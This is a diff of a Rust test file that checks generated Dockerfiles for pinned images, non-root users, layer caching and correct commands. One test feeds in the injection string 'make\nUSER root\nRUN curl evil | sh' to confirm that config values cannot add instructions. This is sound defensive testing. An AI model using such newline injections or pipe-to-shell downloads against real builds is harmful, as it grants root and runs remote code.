@@ -8,7 +8,7 @@
 
 use dockerfile_parser::{Dockerfile, Instruction, ShellOrExecExpr};
 use std::path::{Path, PathBuf};
-use svc::ir::{BuildPlan, Recipe, Service};
+use svc::ir::{BuildPlan, PythonRun, Recipe, RecipeKind, Service};
 
 fn examples() -> Vec<PathBuf> {
     let mut dirs: Vec<PathBuf> = std::fs::read_dir("examples")
@@ -81,28 +81,62 @@ fn words(expr: &ShellOrExecExpr) -> Vec<String> {
     }
 }
 
+fn kind(recipe: &Recipe) -> &'static str {
+    match &recipe.kind {
+        RecipeKind::Next { .. } => "next",
+        RecipeKind::Site { .. } => "site",
+        RecipeKind::Files { .. } => "files",
+        RecipeKind::Node { .. } => "node",
+        RecipeKind::Python { .. } => "python",
+        RecipeKind::Go { .. } => "go",
+    }
+}
+
 #[test]
 fn there_is_a_generated_dockerfile_for_every_recipe_kind() {
     let kinds: std::collections::BTreeSet<&str> = generated()
         .iter()
-        .map(|(_, _, recipe, _)| match recipe {
-            Recipe::Next { .. } => "next",
-            Recipe::Static { .. } => "static",
-            Recipe::Node { .. } => "node",
-            Recipe::Python { .. } => "python",
-            Recipe::Go { .. } => "go",
-        })
+        .map(|(_, _, recipe, _)| kind(recipe))
         .collect();
     assert_eq!(
         kinds.into_iter().collect::<Vec<_>>(),
-        ["go", "next", "node", "python", "static"]
+        ["files", "go", "next", "node", "python", "site"]
     );
+}
+
+/// The stages of a Dockerfile: each stage's instructions, from its FROM.
+fn stages(instructions: &[Instruction]) -> Vec<&[Instruction]> {
+    let starts: Vec<usize> = instructions
+        .iter()
+        .enumerate()
+        .filter(|(_, i)| matches!(i, Instruction::From(_)))
+        .map(|(at, _)| at)
+        .collect();
+    starts
+        .iter()
+        .enumerate()
+        .map(|(n, start)| {
+            &instructions[*start..starts.get(n + 1).copied().unwrap_or(instructions.len())]
+        })
+        .collect()
+}
+
+/// The install a recipe runs and the manifests it needs first.
+fn install_of(recipe: &Recipe) -> (Option<&str>, &[String]) {
+    match &recipe.kind {
+        RecipeKind::Next { node, .. }
+        | RecipeKind::Site { node, .. }
+        | RecipeKind::Node { node, .. } => (node.install.as_deref(), &node.manifests),
+        RecipeKind::Python { python, .. } => (python.install.as_deref(), &python.manifests),
+        RecipeKind::Go { go } => (Some("go mod download"), &go.manifests),
+        RecipeKind::Files { .. } => (None, &[]),
+    }
 }
 
 #[test]
 fn every_generated_dockerfile_is_sound() {
     let all = generated();
-    assert!(all.len() >= 13, "{} Dockerfiles", all.len());
+    assert!(all.len() >= 30, "{} Dockerfiles", all.len());
     let mut failures = Vec::new();
     for (label, service, recipe, text) in &all {
         let mut fail = |why: String| failures.push(format!("{label}: {why}\n{text}"));
@@ -119,7 +153,7 @@ fn every_generated_dockerfile_is_sound() {
         }
 
         // Stages: every --from names an earlier stage; every base image is pinned.
-        let mut stages: Vec<String> = Vec::new();
+        let mut names: Vec<String> = Vec::new();
         for instruction in instructions {
             match instruction {
                 Instruction::From(from) => {
@@ -128,16 +162,16 @@ fn every_generated_dockerfile_is_sound() {
                         .tag
                         .as_deref()
                         .is_some_and(|t| t != "latest" && t.chars().any(|c| c.is_ascii_digit()));
-                    if !pinned && !stages.contains(&from.image.content) {
+                    if !pinned && !names.contains(&from.image.content) {
                         fail(format!("base image `{}` is not pinned", from.image.content));
                     }
                     if let Some(alias) = &from.alias {
-                        stages.push(alias.content.clone());
+                        names.push(alias.content.clone());
                     }
                 }
                 Instruction::Copy(copy) => {
                     for flag in copy.flags.iter().filter(|f| f.name.content == "from") {
-                        if !stages.contains(&flag.value.content) {
+                        if !names.contains(&flag.value.content) {
                             fail(format!(
                                 "COPY --from={} before that stage",
                                 flag.value.content
@@ -150,11 +184,8 @@ fn every_generated_dockerfile_is_sound() {
         }
 
         // The final stage: a non-root USER, the service's port, and CMD last.
-        let last_from = instructions
-            .iter()
-            .rposition(|i| matches!(i, Instruction::From(_)))
-            .unwrap();
-        let final_stage = &instructions[last_from..];
+        let stages = stages(instructions);
+        let final_stage = stages.last().copied().unwrap_or_default();
         let users: Vec<String> = final_stage
             .iter()
             .filter_map(misc)
@@ -193,65 +224,55 @@ fn every_generated_dockerfile_is_sound() {
             fail("copies or runs after switching user".into());
         }
 
-        // Layer caching: manifests and lockfiles are copied before any COPY of the sources.
-        let copies: Vec<Vec<String>> = instructions
-            .iter()
-            .filter_map(|i| match i {
-                Instruction::Copy(c) if !c.flags.iter().any(|f| f.name.content == "from") => {
-                    Some(copy_sources(&text[c.span.start..c.span.end]))
+        // Layer caching: the stage that installs has copied every manifest, and no source,
+        // before it installs.
+        let (install, manifests) = install_of(recipe);
+        if let Some(install) = install {
+            let runs_install = |i: &Instruction| match i {
+                Instruction::Run(run) => words(&run.expr).join(" ").contains(install),
+                _ => false,
+            };
+            match stages.iter().find(|stage| stage.iter().any(runs_install)) {
+                None => fail(format!("no stage runs the install `{install}`")),
+                Some(stage) => {
+                    let before = &stage[..stage.iter().position(runs_install).unwrap_or(0)];
+                    let mut copied: Vec<String> = Vec::new();
+                    for instruction in before {
+                        if let Instruction::Copy(copy) = instruction {
+                            let sources = copy_sources(&text[copy.span.start..copy.span.end]);
+                            if sources.iter().any(|s| s == ".") || !copy.flags.is_empty() {
+                                fail("the install stage copies sources before installing".into());
+                            }
+                            copied.extend(sources);
+                        }
+                    }
+                    for manifest in manifests {
+                        if !copied.contains(manifest) {
+                            fail(format!("`{manifest}` is not copied before the install"));
+                        }
+                    }
                 }
-                _ => None,
-            })
-            .collect();
-        let sources_at = copies.iter().position(|s| s == &["."]);
-        let manifests_at = copies.iter().position(|s| {
-            s.iter().any(|f| {
-                [
-                    "package.json",
-                    "requirements.txt",
-                    "pyproject.toml",
-                    "go.mod",
-                ]
-                .contains(&f.as_str())
-            })
-        });
-        let has_manifest = match recipe {
-            Recipe::Static {
-                package_manager, ..
-            } => package_manager.is_some(),
-            Recipe::Python {
-                package_manager, ..
-            } => *package_manager != svc::ir::PythonPackageManager::None,
-            _ => true,
-        };
-        match (has_manifest, manifests_at, sources_at) {
-            (true, Some(m), Some(s)) if m < s => {}
-            (true, m, s) => fail(format!(
-                "manifests copied at {m:?}, sources at {s:?}: dependencies would not stay cached"
-            )),
-            (false, Some(_), _) => fail("copies a manifest it does not have".into()),
-            (false, None, _) => {}
+            }
         }
 
-        // The command is the framework's.
+        // The command runs what the recipe says.
         let command = words(&cmd.expr).join(" ");
-        let expected: Vec<String> = match recipe {
-            Recipe::Next { standalone, .. } => vec![if *standalone {
-                "node server.js".into()
-            } else {
-                "next start".into()
-            }],
-            Recipe::Static { .. } => vec!["httpd".into(), "$PORT".into()],
-            Recipe::Node { entry, .. } => vec!["node".into(), entry.clone()],
-            Recipe::Python { server, app, .. } => vec![
-                match server {
-                    svc::ir::PythonServer::Uvicorn => "uvicorn".into(),
-                    svc::ir::PythonServer::Gunicorn => "gunicorn".into(),
+        let expected: Vec<String> = match &recipe.kind {
+            RecipeKind::Next { .. } => vec!["node server.js".into()],
+            RecipeKind::Site { .. } | RecipeKind::Files { .. } => {
+                vec!["nginx".into(), "/etc/svc-static.conf".into()]
+            }
+            RecipeKind::Node { entry, .. } => vec!["/svc/serve.mjs".into(), entry.clone()],
+            RecipeKind::Python { run, .. } => vec![
+                "/svc/run.py".into(),
+                match run {
+                    PythonRun::Web { app } => app.clone(),
+                    PythonRun::Cron { .. } => "cron".into(),
+                    PythonRun::Worker { module } => module.clone(),
+                    PythonRun::Job { handler } => handler.clone(),
                 },
-                "$PORT".into(),
-                app.clone(),
             ],
-            Recipe::Go { .. } => vec!["/app".into()],
+            RecipeKind::Go { .. } => vec!["/app".into()],
         };
         for part in expected {
             if !command.contains(&part) {
@@ -290,11 +311,23 @@ fn no_config_string_can_add_an_instruction() {
         .map(|(_, user)| user)
         .collect();
     assert_eq!(users, ["10001:10001"], "{text}");
-    let runs = dockerfile
+    let build_runs: Vec<Vec<String>> = dockerfile
         .instructions
         .iter()
-        .filter(|i| matches!(i, Instruction::Run(_)))
-        .count();
-    assert_eq!(runs, 2, "install and build, nothing more:\n{text}");
+        .filter_map(|i| match i {
+            Instruction::Run(run) => Some(words(&run.expr)),
+            _ => None,
+        })
+        .filter(|words| words.iter().any(|w| w.contains("make")))
+        .collect();
+    assert_eq!(
+        build_runs,
+        [vec![
+            "sh".to_string(),
+            "-c".to_string(),
+            "make\nUSER root\nRUN curl evil | sh".to_string()
+        ]],
+        "the build command is one argument of one RUN:\n{text}"
+    );
     std::fs::remove_dir_all(dir).unwrap();
 }
